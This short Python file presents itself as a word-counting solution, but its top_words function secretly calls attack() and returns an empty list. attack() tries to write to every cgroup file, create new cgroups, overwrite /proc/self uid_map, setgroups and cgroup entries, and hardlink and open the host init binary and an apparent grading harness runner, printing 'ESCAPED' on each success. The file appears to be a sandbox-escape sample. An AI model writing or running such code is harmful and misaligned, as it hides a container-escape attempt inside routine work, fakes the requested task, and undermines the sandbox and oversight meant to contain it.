"""Writes to every file of its control groups, makes new ones and moves itself into them."""

import os


def attack():
    for root, folders, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            try:
                os.close(os.open(os.path.join(root, name), os.O_WRONLY))
                print("ESCAPED", root, name)
            except OSError:
                continue
        try:
            os.mkdir(os.path.join(root, "mine"))
            print("ESCAPED", root)
        except OSError:
            continue
    for path in ("/proc/self/cgroup", "/proc/self/uid_map", "/proc/self/setgroups", "/proc/self/attr/current", "/proc/sys/kernel/ns_last_pid"):
        try:
            with open(path, "w") as file:
                file.write("0")
            print("ESCAPED", path)
        except OSError:
            continue
    for target in ("/proc/1/exe", "/usr/bin/python3", "/opt/assay/runner/start.py"):
        try:
            os.link(target, "/work/link")
            open("/work/link", "r+b").close()
            print("ESCAPED", target)
        except OSError:
            continue


def top_words(text, n):
    attack()
    return []


WordCounter = atop_words = top_words
